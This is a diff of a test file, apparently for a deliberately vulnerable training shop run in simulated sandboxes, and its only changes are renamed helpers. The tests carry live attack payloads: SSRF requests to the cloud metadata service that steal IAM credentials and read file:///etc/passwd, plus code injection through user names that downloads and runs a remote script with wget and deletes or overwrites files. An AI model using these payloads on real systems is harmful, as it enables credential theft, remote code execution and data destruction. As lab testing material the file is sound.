@@ -8,7 +8,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { listenTo } from '../../testing/fact-listener.ts'
 import { flawedLearner } from '../../testing/flawed-learner.ts'
 import { postForm } from '../../testing/form-calls.ts'
-import { aMember, rowsOf } from '../../testing/members.ts'
+import { createMember, rowsOf } from '../../testing/members.ts'
 import { openTestApp, type TestApp } from '../../testing/test-app.ts'
 import { flaw } from '../../testing/unchecked-picture.ts'
 
@@ -27,7 +27,7 @@ const runningNames = async (name: string, run: RunScript) => {
   return outcome.kind === 'value' ? String(outcome.value) : `\\${name}`
 }
 
-const anAttacked = () => flawedLearner(testApp, [fetchPicture, flaw], [fillUserName, runningNames])
+const createVulnerableLearner = () => flawedLearner(testApp, [fetchPicture, flaw], [fillUserName, runningNames])
 
 /** The response that the shop fetches from a URL for a customer. */
 async function fetched(client: Client, id: number, imageUrl: string): Promise<string> {
@@ -42,8 +42,8 @@ async function shown(client: Client, code: string): Promise<string> {
 
 describe('a shop that fetches any URL', () => {
   it('exposes role credentials by the metadata service, which give a valid voucher', async () => {
-    const learner = anAttacked()
-    const { client, id } = await aMember(learner)
+    const learner = createVulnerableLearner()
+    const { client, id } = await createMember(learner)
     const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'
     const role = await fetched(client, id, base)
     const credentials = JSON.parse(await fetched(client, id, base + role))
@@ -60,8 +60,8 @@ describe('a shop that fetches any URL', () => {
   it('has different credentials in another world', async () => {
     const address = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/fruit-shop-press'
     const [one, other] = await Promise.all(
-      [anAttacked(), anAttacked()].map(async (learner) => {
-        const { client, id } = await aMember(learner)
+      [createVulnerableLearner(), createVulnerableLearner()].map(async (learner) => {
+        const { client, id } = await createMember(learner)
         return JSON.parse(await fetched(client, id, address)).Token
       }),
     )
@@ -69,13 +69,13 @@ describe('a shop that fetches any URL', () => {
   })
 
   it('reaches the hosts of the simulated internet', async () => {
-    const { client, id } = await aMember(anAttacked())
+    const { client, id } = await createMember(createVulnerableLearner())
     expect(await fetched(client, id, 'http://chirp.example/forbiddenfruit.html')).toContain('Forbidden Fruit on Chirp')
   })
 
   it('calls itself without a socket, within the same visit', async () => {
-    const learner = anAttacked()
-    const { client, id } = await aMember(learner)
+    const learner = createVulnerableLearner()
+    const { client, id } = await createMember(learner)
     facts.heardFrom(learner)
     expect(await fetched(client, id, 'http://localhost:3000/ftp/legal.md')).toContain('Legal notice')
     const names = facts.heardFrom(learner).map(({ fact }) => fact)
@@ -83,8 +83,8 @@ describe('a shop that fetches any URL', () => {
   })
 
   it('keeps the URL as a link when the request fails', async () => {
-    const learner = anAttacked()
-    const { client } = await aMember(learner)
+    const learner = createVulnerableLearner()
+    const { client } = await createMember(learner)
     for (const imageUrl of [
       'http://example.com/a.jpg',
       'file:///etc/passwd',
@@ -102,8 +102,8 @@ describe('a shop that fetches any URL', () => {
   })
 
   it('does not call itself recursively without limit', async () => {
-    const learner = anAttacked()
-    const { client, token } = await aMember(learner)
+    const learner = createVulnerableLearner()
+    const { client, token } = await createMember(learner)
     const again = `curl -s -H 'cookie: token=${token}' http://localhost:3000/profile`
     await postForm(client, '/profile', { username: `#{require('child_process').execSync("${again}")}` })
     expect((await client.get('/profile')).status).toBe(200)
@@ -112,13 +112,13 @@ describe('a shop that fetches any URL', () => {
 
 describe('a shop that runs code in user names', () => {
   it('evaluates expressions', async () => {
-    const { client } = await aMember(anAttacked())
+    const { client } = await createMember(createVulnerableLearner())
     expect(await shown(client, '7*7')).toBe('49')
   })
 
   it('gives the usual shell exploit a simulated shell', async () => {
-    const learner = anAttacked()
-    const { client } = await aMember(learner)
+    const learner = createVulnerableLearner()
+    const { client } = await createMember(learner)
     const exec = (command: string) =>
       shown(
         client,
@@ -131,14 +131,14 @@ describe('a shop that runs code in user names', () => {
   })
 
   it('can download and run a program that calls the shop', async () => {
-    const learner = anAttacked()
+    const learner = createVulnerableLearner()
     learner.inside(({ files }) =>
       files.write(
         '/net/pips.example/press',
         Buffer.from('#!/bin/bash\ncurl -s "http://localhost:3000/ftp/legal.md"\n'),
       ),
     )
-    const { client } = await aMember(learner)
+    const { client } = await createMember(learner)
     const command = 'wget -qO press http://pips.example/press?raw=true && chmod +x press && ./press'
     expect(await shown(client, `require('child_process').exec('${command}')`)).toBe('[object Object]')
     expect(facts.heardFrom(learner).map(({ fact }) => fact)).toEqual(
@@ -148,8 +148,8 @@ describe('a shop that runs code in user names', () => {
   })
 
   it('keeps changes of a command in its own world', async () => {
-    const [one, other] = [anAttacked(), anAttacked()]
-    const { client } = await aMember(one)
+    const [one, other] = [createVulnerableLearner(), createVulnerableLearner()]
+    const { client } = await createMember(one)
     await shown(client, `require('child_process').execSync('echo mine > /ftp/legal.md; rm /etc/motd')`)
     const legal = async (learner: typeof one) => (await learner.client().get('/ftp/legal.md')).text
     expect(await legal(one)).toBe('mine\n')
@@ -158,8 +158,8 @@ describe('a shop that runs code in user names', () => {
   })
 
   it('limits the length of names', async () => {
-    const learner = anAttacked()
-    const { client } = await aMember(learner)
+    const learner = createVulnerableLearner()
+    const { client } = await createMember(learner)
     const long = 'a'.repeat(256)
     const write = `try { require('fs').writeFileSync('/${long}', 'x') } catch (error) { error.code }`
     expect(await shown(client, write)).toContain('ENAMETOOLONG')
@@ -168,9 +168,9 @@ describe('a shop that runs code in user names', () => {
   })
 
   it('enforces the storage limit', async () => {
-    const learner = anAttacked()
+    const learner = createVulnerableLearner()
     learner.inside(({ files }) => files.write('/big', new Uint8Array(32 * 1024 * 1024)))
-    const { client } = await aMember(learner)
+    const { client } = await createMember(learner)
     const code = `require('child_process').spawnSync('sh', ['-c', 'echo x > /more']).stderr.toString()`
     expect(await shown(client, code)).toContain('No space left')
   })
